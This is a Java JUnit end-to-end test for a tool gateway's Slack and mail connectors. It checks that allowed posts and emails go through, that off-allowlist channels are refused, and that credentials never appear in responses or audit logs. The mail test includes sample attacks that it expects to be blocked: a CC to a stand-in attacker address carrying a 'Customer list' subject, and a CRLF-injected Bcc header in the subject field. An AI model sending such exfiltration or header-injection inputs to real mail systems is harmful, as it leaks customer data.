package dev.portcullis.connector;

import static org.assertj.core.api.Assertions.assertThat;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.ServerSetup;
import com.icegreen.greenmail.util.ServerSetupTest;
import dev.portcullis.audit.AuditRecord;
import dev.portcullis.testing.GatewayFixture;
import dev.portcullis.testing.Invocations;
import dev.portcullis.testing.SlackShapedServer;
import jakarta.mail.internet.MimeMessage;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/**
 * Posting to Slack and sending mail through a real gateway: the configured example, a Slack-shaped
 * server, and a real SMTP server (GreenMail) with a login. Allowed calls arrive; refused ones end
 * at the gateway with nothing sent; no credential appears in any response or audit record.
 */
class ChatAndMailEndToEndTest {
  private static final String SLACK_TOKEN = "xoxb-e2e-0000-slack-bot-token";
  private static final String SMTP_PASSWORD = "e2e-smtp-password-value";

  @RegisterExtension static final GreenMailExtension SMTP = new GreenMailExtension(smtp());

  @TempDir Path data;
  private SlackShapedServer slack;
  private GatewayFixture gateway;

  private static ServerSetup smtp() {
    ServerSetup s = ServerSetupTest.SMTP.dynamicPort();
    s.setServerStartupTimeout(30_000);
    return s;
  }

  @BeforeEach
  void start() {
    SMTP.setUser("support@acme.com", "portcullis", SMTP_PASSWORD);
    slack = SlackShapedServer.start(SLACK_TOKEN);
    gateway =
        GatewayFixture.start(
            data,
            Path.of("src/test/resources/config/chat-mail.yaml"),
            Map.of(
                "SLACK_URL",
                slack.baseUri().toString(),
                "SLACK_BOT_TOKEN",
                SLACK_TOKEN,
                "SMTP_HOST",
                "127.0.0.1",
                "SMTP_PORT",
                Integer.toString(SMTP.getSmtp().getPort()),
                "SMTP_SECURITY",
                "none",
                "SMTP_PASSWORD",
                SMTP_PASSWORD));
  }

  @AfterEach
  void stop() {
    gateway.close();
    slack.close();
  }

  private HttpResponse<String> invoke(String tool, String arguments) {
    HttpResponse<String> r =
        gateway.invoke(tool, GatewayFixture.SUPPORT_KEY, "{\"arguments\":" + arguments + "}");
    assertThat(r.body()).doesNotContain(SLACK_TOKEN).doesNotContain(SMTP_PASSWORD);
    return r;
  }

  private static JsonNode json(HttpResponse<String> r) {
    return Invocations.JSON.readTree(r.body());
  }

  @Test
  void postsToAnAllowedChannelAndRefusesAnyOtherWithNothingSent() throws Exception {
    HttpResponse<String> posted =
        invoke("chat_post_support", "{\"channel\":\"#support\",\"text\":\"Ticket 42 is solved\"}");
    HttpResponse<String> outside =
        invoke("chat_post", "{\"channel\":\"#random\",\"text\":\"the customer list\"}");
    HttpResponse<String> offSchema =
        invoke("chat_post_support", "{\"channel\":\"#random\",\"text\":\"x\"}");

    assertThat(posted.statusCode()).as(posted.body()).isEqualTo(200);
    assertThat(json(posted).path("result").toString())
        .isEqualTo("{\"ok\":true,\"channel\":\"C0SUPPORT1\",\"ts\":\"1700000000.000001\"}");
    assertThat(outside.statusCode()).isEqualTo(502);
    assertThat(json(outside).path("type").asString()).endsWith("upstream-rejected");
    assertThat(json(outside).path("detail").asString())
        .isEqualTo(
            "connector team-chat refused the call: channel '#random' is not in its channels allowlist; nothing was sent");
    assertThat(offSchema.statusCode())
        .as("the schema's enum refuses it before the connector")
        .isEqualTo(422);
    assertThat(slack.requests()).hasSize(1);
    assertThat(slack.posted())
        .singleElement()
        .isEqualTo(
            new SlackShapedServer.Posted(
                "C0SUPPORT1", "Ticket 42 is solved", null, "1700000000.000001"));
    assertThat(auditText()).doesNotContain(SLACK_TOKEN).contains("env:SLACK_BOT_TOKEN");
  }

  @Test
  void sendsToAnAllowedDomainAndRefusesExfiltrationWithNothingSent() throws Exception {
    HttpResponse<String> sent =
        invoke(
            "mail_send",
            "{\"to\":[\"ann@acme.com\"],\"subject\":\"Your ticket\",\"body\":\"It is solved.\"}");
    HttpResponse<String> foreign =
        invoke(
            "mail_send",
            "{\"to\":[\"ann@acme.com\"],\"cc\":[\"drop@evil.example\"],\"subject\":\"Customer list\",\"body\":\"…\"}");
    HttpResponse<String> injected =
        invoke(
            "mail_send",
            "{\"to\":[\"ann@acme.com\"],\"subject\":\"Hi\\r\\nBcc: drop@evil.example\",\"body\":\"…\"}");

    assertThat(sent.statusCode()).as(sent.body()).isEqualTo(200);
    MimeMessage[] received = SMTP.getReceivedMessages();
    assertThat(received).hasSize(1);
    assertThat(received[0].getFrom()[0].toString()).isEqualTo("Acme Support <support@acme.com>");
    assertThat(received[0].getSubject()).isEqualTo("Your ticket");
    JsonNode result = json(sent).path("result");
    assertThat(result.path("messageId").asString()).isEqualTo(received[0].getMessageID());
    assertThat(result.path("accepted").toString()).isEqualTo("[\"ann@acme.com\"]");
    for (HttpResponse<String> refused : List.of(foreign, injected)) {
      assertThat(refused.statusCode()).isEqualTo(502);
      assertThat(json(refused).path("detail").asString())
          .startsWith("connector outbound-mail refused the message: ")
          .endsWith("; nothing was sent");
    }
    assertThat(SMTP.getReceivedMessages())
        .as("the refused messages never reached the server")
        .hasSize(1);
    assertThat(auditText()).doesNotContain(SMTP_PASSWORD).contains("env:SMTP_PASSWORD");
  }

  @Test
  void aWrongSmtpPasswordIsACredentialFailureThatNeverShowsIt() {
    SMTP.setUser("support@acme.com", "portcullis", "another-password");

    HttpResponse<String> r =
        invoke("mail_send", "{\"to\":[\"ann@acme.com\"],\"subject\":\"s\",\"body\":\"b\"}");

    assertThat(r.statusCode()).isEqualTo(503);
    assertThat(json(r).path("detail").asString())
        .isEqualTo("the credential for connector outbound-mail was refused by the SMTP server");
    assertThat(SMTP.getReceivedMessages()).isEmpty();
  }

  private String auditText() throws Exception {
    List<AuditRecord> records = new ArrayList<>();
    gateway.assembly().auditLog().scan(records::add);
    return records.toString();
  }
}
